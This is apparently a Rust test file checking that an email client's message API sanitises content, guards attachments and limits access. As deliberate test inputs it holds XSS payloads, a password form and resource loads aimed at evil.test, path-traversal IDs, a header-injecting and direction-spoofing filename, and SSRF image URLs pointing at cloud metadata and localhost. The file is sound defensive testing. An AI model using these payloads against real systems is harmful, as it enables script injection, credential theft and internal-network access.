//! Single messages: their content, made harmless, and their attachments.
//!
//! CONN-12, CONN-23, CONN-24, CONN-33, CONN-41.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

use chrono::TimeDelta;
use sandbox::{Fault, Mode, Service};
use serde_json::{Value, json};

use super::{Stage, refusal};
use crate::world::Answer;

const DANA: &str = "dana@example.com";

/// The head of a mail to Dana.
const HEAD: &str =
    "From: Eve <eve@example.net>\r\nTo: dana@example.com\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n";

/// The most bytes of an attachment.
const MOST_BYTES: usize = 25 * 1024 * 1024;

impl Stage {
    /// Connects Dana's mailbox; returns the token of its user.
    async fn with_mailbox() -> (Self, String) {
        let stage = Self::new().await;
        let ca = stage.world.sign_in("ca@a.test").await;
        stage.connected(&ca, DANA).await;
        (stage, ca)
    }

    async fn open(&self, token: &str, id: &str) -> Answer {
        self.world.get(&format!("/api/aurinko/emails/{id}"), token).await
    }

    async fn download(&self, token: &str, id: &str, attachment: &str) -> Answer {
        let path = format!("/api/aurinko/emails/{id}/attachments/{attachment}");
        self.world.get(&path, token).await
    }

    /// The message of the live list with this subject.
    async fn listed(&self, token: &str, subject: &str) -> Value {
        let list = self.mails(token, "limit=200").await;
        let rows = list.result()["data"].as_array().unwrap();
        let row = rows.iter().find(|row| row["subject"] == subject);
        row.unwrap_or_else(|| panic!("no message {subject}")).clone()
    }

    async fn open_listed(&self, token: &str, subject: &str) -> Value {
        let listed = self.listed(token, subject).await;
        let opened = self.open(token, listed["id"].as_str().unwrap()).await;
        opened.result().clone()
    }

    /// Delivers a mail to Dana; returns its id, if it can be parsed.
    fn deliver(&self, mail: &[u8]) -> Option<String> {
        self.sandbox.aurinko.deliver(DANA, mail)
    }

    fn deliver_html(&self, html: &str) -> String {
        let mail = format!("{HEAD}Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n");
        self.deliver(mail.as_bytes()).unwrap()
    }
}

// CONN-23, CONN-33
#[tokio::test]
async fn a_message_is_opened_by_the_user_of_its_mailbox_alone() {
    let stage = Stage::new().await;
    let (ca, sm) = (
        stage.world.sign_in("ca@a.test").await,
        stage.world.sign_in("sm@a.test").await,
    );
    let account = stage.connected(&ca, DANA).await;
    let listed = stage.listed(&ca, "Re: Your listing on 214 Linden Street").await;
    let id = listed["id"].as_str().unwrap();
    let opened = stage.open(&ca, id).await;
    let opened = opened.result();
    for field in ["id", "threadId", "subject", "receivedAt", "isImportant"] {
        assert_eq!(opened[field], listed[field], "{field}");
    }
    assert_eq!(
        opened["from"],
        json!({ "name": "Maria Vasquez", "address": "maria.vasquez@lindenrealty.example" })
    );
    assert_eq!(opened["to"], json!([{ "name": "Dana", "address": DANA }]));
    assert_eq!((&opened["cc"], &opened["attachments"]), (&json!([]), &json!([])));
    assert_eq!(opened["remoteImages"], 0);
    let text = opened["text"].as_str().unwrap();
    assert!(
        text.starts_with("Yes, please call me tomorrow after 3 pm. The sellers move in June.\n\nMaria\n\n"),
        "{text}"
    );
    assert!(opened["html"].as_str().unwrap().starts_with("<p>Yes, please"));

    // A colleague, with and without a mailbox of their own.
    for _ in 0..2 {
        for path in [
            format!("{id}?accountId={account}"),
            format!("{id}/attachments/1?accountId={account}"),
            id.to_owned(),
        ] {
            let answer = stage.open(&sm, &path).await;
            assert_eq!(refusal(&answer), (404, "NOT_FOUND"), "{path}");
        }
        stage.connected(&sm, "lee@example.com").await;
    }
    for id in [
        "0000000000000000",
        "%2E%2E",
        ".%09.",
        "..%2F..%2Faccount",
        "a%2Fb%3Fc",
        "x".repeat(1_000).as_str(),
    ] {
        assert_eq!(refusal(&stage.open(&ca, id).await), (404, "NOT_FOUND"), "{id}");
    }
    let long = stage.open(&ca, &"x".repeat(1_001)).await;
    assert_eq!(
        (refusal(&long), long.fields()),
        ((400, "1014"), vec!["messageId"])
    );
}

// CONN-24, CONN-41
#[tokio::test]
async fn hostile_html_executes_and_loads_nothing() {
    let (stage, ca) = Stage::with_mailbox().await;
    let newsletter = stage.open_listed(&ca, "Austin Housing Weekly").await;
    assert_eq!(newsletter["remoteImages"], 2);
    let html = newsletter["html"].as_str().unwrap();
    assert!(
        html.contains("data-src=\"https://images.example/header.png?reader=4711\""),
        "{html}"
    );
    assert!(html.contains("href=\"https://news.example/weekly\""), "{html}");
    let mut shown = vec![newsletter.clone()];
    let subject = "<img src=x onerror=alert(5)> Your mailbox is almost full";
    shown.push(stage.open_listed(&ca, subject).await);
    for html in [
        "<script>alert(1)</script><p onmouseover=alert(1)>x</p><style>p { background: url(https://evil.test) }</style>",
        "<p style='background: url(https://evil.test/x); position: fixed'>x</p><link rel=stylesheet href=https://evil.test>",
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,<script>alert(1)</script>'>",
        "<svg onload=alert(1)><image href=https://evil.test/x></svg><math><mtext><script>alert(1)</script></math>",
        "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<form action=https://evil.test><input name=password><button formaction=https://evil.test>x</button></form>",
        "<iframe src=https://evil.test></iframe><object data=https://evil.test></object><embed src=https://evil.test>",
        "<a href='javascript:alert(1)' target=_self>x</a><video src=https://evil.test poster=https://evil.test></video>",
        "<img srcset='https://evil.test/x 2x' src=https://evil.test/x><td background=https://evil.test/x>x</td>",
    ] {
        let id = stage.deliver_html(html);
        shown.push(stage.open(&ca, &id).await.result().clone());
    }
    for mail in shown {
        let html = mail["html"].as_str().unwrap_or_default().to_lowercase();
        for part in [
            "<script",
            "<style",
            "<svg",
            "<math",
            "<base",
            "<meta",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<video",
            "onclick",
            "onload",
            "onerror",
            "onmouseover",
            "javascript:",
            "url(",
            "position",
            "srcset",
            "background",
            " src=",
            "action=",
            "_self",
        ] {
            assert!(!html.contains(part), "{part} in {html}");
        }
        assert!(!mail["text"].as_str().unwrap().contains("alert("), "{mail}");
    }
}

// CONN-24
#[tokio::test]
async fn huge_and_broken_mails_are_shown_within_a_second() {
    let (stage, ca) = Stage::with_mailbox().await;
    let open = async |id: &str| {
        let begun = Instant::now();
        let answer = stage.open(&ca, id).await;
        let took = begun.elapsed();
        assert!(took < Duration::from_secs(1), "{took:?}");
        answer.result().clone()
    };
    let row = "<p style=\"color: red\">Some <b>words</b></p>\r\n";
    let tables = "<table><tr><td>".repeat(1_000) + "deep" + &"</td></tr></table>".repeat(1_000);
    for (html, text) in [(row.repeat(120_000), "Some words"), (tables, "deep")] {
        let mail = open(&stage.deliver_html(&html)).await;
        assert_eq!(mail.get("html"), None);
        let shown = mail["text"].as_str().unwrap();
        assert!(
            shown.starts_with(text) && shown.len() <= 256 * 1024,
            "{}",
            shown.len()
        );
    }
    let mail = open(&stage.deliver_html(&row.repeat(2_000))).await;
    assert!(mail["html"].as_str().unwrap().len() > 50_000);

    let mut recipients = String::from(DANA);
    for number in 1..10_000 {
        write!(recipients, ",\r\n Person {number} <person{number}@example.net>").unwrap();
    }
    let many = format!(
        "From: eve@example.net\r\nTo: {recipients}\r\nCc: {recipients}\r\nSubject: Hi\r\n\r\nHello\r\n"
    );
    let mail = open(&stage.deliver(many.as_bytes()).unwrap()).await;
    for kind in ["to", "cc"] {
        assert_eq!(mail[kind].as_array().unwrap().len(), 200, "{kind}");
    }
    assert_eq!(mail["recipientsLeftOut"], 2 * 9_800);

    let parts = |parts: &str| format!("{HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}");
    for mail in [
        parts("--b\r\nContent-Type: text/html\r\n\r\n<p>never closed"),
        parts("--other\r\n\r\nx\r\n--other--"),
        parts("--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx").repeat(20),
        parts(
            "--b\r\nContent-Type: text/plain; charset=nonsense\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%=\r\n--b--",
        ),
        parts("--b\r\nContent-Disposition: attachment; filename*=utf-8''%FF%00..%2F\r\n\r\nx\r\n--b--"),
        format!(
            "{HEAD}Content-Type: text/html; charset=utf-16\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=00=D8<p>x"
        ),
        format!("{HEAD}Content-Type: ;;;=\r\n\r\na\u{0}b\u{7}c"),
    ] {
        if let Some(id) = stage.deliver(mail.as_bytes()) {
            let mut shown = open(&id).await;
            // Control characters in HTML are harmless.
            shown.as_object_mut().unwrap().remove("html");
            let shown = shown.to_string();
            assert!(
                !shown.contains("\\u0000") && !shown.contains("\\u0007"),
                "{shown}"
            );
        }
    }
}

#[tokio::test]
async fn pictures_of_attachments_are_shown_in_the_html() {
    let (stage, ca) = Stage::with_mailbox().await;
    let signed = stage.open_listed(&ca, "Floor plan").await;
    let html = signed["html"].as_str().unwrap();
    assert!(html.contains("<img src=\"data:image/png;base64,iVBOR"), "{html}");
    assert_eq!(
        (&signed["attachments"], &signed["remoteImages"]),
        (&json!([]), &json!(0))
    );
    // A file that only claims to be a picture stays an attachment.
    let mail = format!(
        "{HEAD}Content-Type: multipart/related; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html\r\n\r\n<p>Logo <img src=\"cid:logo@evil.test\"></p>\r\n\
         --b\r\nContent-Type: image/png; name=logo.png\r\nContent-ID: <logo@evil.test>\r\n\
         Content-Disposition: inline; filename=logo.png\r\n\r\n<svg onload=alert(1)></svg>\r\n--b--\r\n"
    );
    let id = stage.deliver(mail.as_bytes()).unwrap();
    let opened = stage.open(&ca, &id).await;
    let html = opened.result()["html"].as_str().unwrap();
    assert_eq!(html.trim_end(), "<p>Logo <img></p>");
    assert_eq!(opened.result()["attachments"][0]["name"], "logo.png");
}

#[tokio::test]
async fn an_attachment_is_downloaded_as_a_file() {
    let (stage, ca) = Stage::with_mailbox().await;
    let invoice = stage.open_listed(&ca, "Invoice 2026-1187").await;
    let id = invoice["id"].as_str().unwrap();
    let attachments = invoice["attachments"].as_array().unwrap();
    let names: Vec<_> = attachments
        .iter()
        .map(|one| one["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["Invoice 2026-1187.pdf", "items.csv"]);
    assert_eq!(attachments[0]["mimeType"], "application/pdf");
    let pdf = attachments[0]["id"].as_str().unwrap();
    let file = stage.download(&ca, id, pdf).await;
    assert_eq!(file.status, 200);
    assert!(file.text.starts_with("%PDF-1.4"));
    assert_eq!(attachments[0]["size"], file.text.len());
    for (name, value) in [
        ("content-type", "application/octet-stream"),
        ("x-content-type-options", "nosniff"),
        ("cache-control", "no-store"),
    ] {
        assert_eq!(file.headers[name], value, "{name}");
    }
    let disposition = file.headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"Invoice 2026-1187.pdf\""),
        "{disposition}"
    );

    // A web page is a file too.
    let list = stage
        .mails(&ca, "limit=200&q=from:grace.whitfield@lakeshorehomes.example")
        .await;
    let rows = list.result()["data"].as_array().unwrap();
    let page = rows.iter().find(|row| row["hasAttachments"] == true).unwrap();
    let page = page["id"].as_str().unwrap();
    let opened = stage.open(&ca, page).await;
    let attachment = &opened.result()["attachments"][0];
    assert_eq!(attachment["name"], "plan & stairs <2>.html");
    let file = stage
        .download(&ca, page, attachment["id"].as_str().unwrap())
        .await;
    assert!(file.text.contains("<script>"));
    assert_eq!(file.headers["content-type"], "application/octet-stream");

    for (id, attachment) in [(id, "none"), ("none", pdf), (id, "..%2F.."), (page, pdf)] {
        let answer = stage.download(&ca, id, attachment).await;
        assert_eq!(refusal(&answer), (404, "NOT_FOUND"), "{id} {attachment}");
    }
    let sm = stage.world.sign_in("sm@a.test").await;
    assert_eq!(refusal(&stage.download(&sm, id, pdf).await), (404, "NOT_FOUND"));
    for (mode, code) in [
        (Mode::Status, "MAILBOX_UNAVAILABLE"),
        (Mode::BadJson, "MAILBOX_UNAVAILABLE"),
    ] {
        stage.fail(mode);
        assert_eq!(
            refusal(&stage.download(&ca, id, pdf).await),
            (422, code),
            "{mode:?}"
        );
    }
}

#[tokio::test]
async fn an_attachment_has_a_safe_name_and_at_most_25_mib() {
    let (stage, ca) = Stage::with_mailbox().await;
    let mail = |name: &str, content: &str| {
        format!(
            "{HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee the file.\r\n\
             --b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: 8bit\r\n\
             Content-Disposition: attachment; filename*=utf-8''{name}\r\n\r\n{content}\r\n--b--\r\n"
        )
    };
    // `invoice\u{202E}fdp.exe` would be shown as `invoiceexe.pdf`.
    let named = mail("..%2F%22%0D%0AX-Evil%3A%201%22invoice%E2%80%AEfdp.exe", "x");
    let id = stage.deliver(named.as_bytes()).unwrap();
    let opened = stage.open(&ca, &id).await;
    let attachment = &opened.result()["attachments"][0];
    assert!(
        attachment["name"].as_str().unwrap().ends_with("invoicefdp.exe"),
        "{attachment}"
    );
    let file = stage.download(&ca, &id, attachment["id"].as_str().unwrap()).await;
    assert_eq!(file.text, "x");
    assert!(!file.headers.contains_key("x-evil"));
    let disposition = file.headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.contains("invoicefdp.exe\"; filename*=") && !disposition.contains('/'),
        "{disposition}"
    );

    for (length, expected) in [(MOST_BYTES, (200, "")), (MOST_BYTES + 1, (413, "TOO_LARGE"))] {
        let large = mail("large.bin", &"x".repeat(length));
        let id = stage.deliver(large.as_bytes()).unwrap();
        let opened = stage.open(&ca, &id).await;
        let attachment = &opened.result()["attachments"][0];
        assert_eq!(attachment["size"], length);
        let file = stage.download(&ca, &id, attachment["id"].as_str().unwrap()).await;
        assert_eq!(refusal(&file), expected);
        assert_eq!(file.text.len() == length, expected.0 == 200);
    }
}

// CONN-12
#[tokio::test]
async fn an_opened_message_is_read_in_every_list_from_then_on() {
    let (stage, ca) = Stage::with_mailbox().await;
    let subject = "Re: Your listing on 214 Linden Street";
    let listed = stage.listed(&ca, subject).await;
    assert_eq!(listed["isUnread"], true);
    let id = listed["id"].as_str().unwrap();
    let unread = async |query: &str| -> Vec<String> {
        let list = stage.mails(&ca, query).await;
        let rows = list.result()["data"].as_array().unwrap();
        let unread = rows.iter().filter(|row| row["isUnread"] == true);
        unread.map(|row| row["id"].as_str().unwrap().to_owned()).collect()
    };
    let before = unread("cached=true").await;
    assert!(before.len() > 2 && before.contains(&id.to_owned()));
    // A message that could not be opened stays unread.
    stage.fail(Mode::Status);
    assert_eq!(refusal(&stage.open(&ca, id).await), (422, "MAILBOX_UNAVAILABLE"));
    assert_eq!(unread("cached=true").await, before);
    stage.fail(Mode::None);
    for _ in 0..2 {
        stage.open(&ca, id).await.result();
        stage.world.clock.advance(TimeDelta::minutes(1));
        for query in ["cached=true", "", "cached=true", "q=linden"] {
            assert!(!unread(query).await.contains(&id.to_owned()), "{query}");
        }
    }
    assert_eq!(unread("cached=true").await.len(), before.len() - 1);
    let seen = "select count(*) from mail_messages where seen_at is not null";
    assert_eq!(stage.world.count(seen).await, 1);
}

// CONN-35
#[tokio::test]
async fn opening_tells_an_outage_from_a_dead_mailbox() {
    let (stage, ca) = Stage::with_mailbox().await;
    let listed = stage.listed(&ca, "Floor plan").await;
    let id = listed["id"].as_str().unwrap();
    for mode in [Mode::Status, Mode::BadJson, Mode::Drop, Mode::AcceptThenSilent] {
        stage.fail(mode);
        assert_eq!(
            refusal(&stage.open(&ca, id).await),
            (422, "MAILBOX_UNAVAILABLE"),
            "{mode:?}"
        );
    }
    stage.fail(Mode::None);
    stage.sandbox.aurinko.kill(DANA);
    // The second call is refused by the stored health.
    for _ in 0..2 {
        assert_eq!(refusal(&stage.open(&ca, id).await), (422, "MAILBOX_RECONNECT"));
        assert_eq!(
            refusal(&stage.download(&ca, id, "1").await),
            (422, "MAILBOX_RECONNECT")
        );
    }
}

// CONN-41, design 10: images load after the user asks, for that message alone, and from public hosts only. A redirect
// to an internal address isn't followed.
#[tokio::test]
async fn remote_images_load_when_the_user_asks() {
    let (stage, ca) = Stage::with_mailbox().await;
    let html = "<img src=\"https://photos.example/K1/1.jpg\"><img src='https://photos.example/K1/2.png'>\
                <img src=\"https://169.254.169.254/latest\"><img src=\"https://localhost.localdomain/1.jpg\">\
                <img src=\"http://photos.example/K1/3.jpg\">";
    let id = stage.deliver_html(html);
    let asked = || stage.sandbox.pictures.asked().len();
    let before = stage.open(&ca, &id).await;
    assert_eq!((before.result()["remoteImages"].as_i64(), asked()), (Some(5), 0));
    let loaded = stage.open(&ca, &format!("{id}?loadImages=true")).await;
    let shown = loaded.result()["html"].as_str().unwrap();
    assert_eq!(
        shown.matches("src=\"data:image/jpeg;base64,").count(),
        1,
        "{shown}"
    );
    assert_eq!(shown.matches("src=\"data:image/png;base64,").count(), 1);
    assert_eq!((loaded.result()["remoteImages"].as_i64(), asked()), (Some(3), 2));
    // The next message asks again.
    let other = stage.deliver_html(html);
    assert_eq!(stage.open(&ca, &other).await.result()["remoteImages"], 5);
    let fault = Fault::every(Service::Pictures, Mode::Redirect);
    stage.sandbox.faults.set(fault).unwrap();
    let redirected = stage.open(&ca, &format!("{id}?loadImages=true")).await;
    assert_eq!(redirected.result()["remoteImages"], 5);
}
